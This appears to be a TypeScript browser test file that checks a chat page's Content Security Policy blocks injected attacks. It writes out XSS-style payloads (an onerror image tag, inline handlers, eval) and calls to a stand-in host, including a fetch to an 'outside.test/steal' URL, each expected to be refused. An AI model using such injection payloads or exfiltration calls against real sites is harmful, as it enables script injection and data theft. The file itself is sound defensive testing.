import type { Page } from "playwright";
import { beforeAll, expect, test } from "vitest";
import { openTestPage } from "../support/test-page.ts";

let page: Page;

beforeAll(async () => {
  const testPage = await openTestPage({ claude: [{ text: "Hello." }] }, { look: {} });
  ({ page } = testPage);
  return testPage.close;
});

/** Attempts of a script that got into the page. */
const attempts: Readonly<Record<string, () => unknown>> = {
  "an inline script": () => {
    const script = document.createElement("script");
    script.append("window.ran = true");
    document.body.append(script);
  },
  "a script of another host": () => {
    const script = document.createElement("script");
    script.src = "https://outside.test/script.js";
    document.body.append(script);
  },
  "HTML from a string": () => {
    document.createElement("div").innerHTML = "<img src=x onerror='window.ran = true'>";
  },
  "an inline handler": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.ran = true");
    document.body.append(button);
    button.click();
  },
  "a string as code": () => {
    // In a separate task, because the debugger's own evaluations are exempt.
    // biome-ignore lint/security/noGlobalEval: this must not work.
    setTimeout(() => globalThis.eval("window.ran = true"));
  },
  "a request to another host": () => fetch("https://outside.test/steal"),
  "a socket to another host": () => {
    new WebSocket("wss://outside.test/");
  },
  "a frame": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://outside.test/frame";
    document.body.append(frame);
  },
  "a form": () => {
    const form = document.createElement("form");
    form.action = "https://outside.test/form";
    document.body.append(form);
    form.submit();
  },
};

for (const [name, attempt] of Object.entries(attempts)) {
  test(`[S15] ${name} that an attacker gets into the page does nothing`, async () => {
    const asked: string[] = [];
    const note = (request: { url(): string }) => asked.push(request.url());
    page.on("request", note);
    const before = page.url();
    const refused = page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
            once: true,
          });
        }),
    );
    await page.evaluate(attempt).catch(() => undefined);
    await expect(refused).resolves.toEqual(expect.any(String));
    const ran = await page.evaluate(() => "ran" in globalThis);
    page.off("request", note);
    const outside = asked.filter((url) => url.includes("outside.test"));
    expect({ ran, outside, url: page.url() }).toEqual({ ran: false, outside: [], url: before });
  });
}
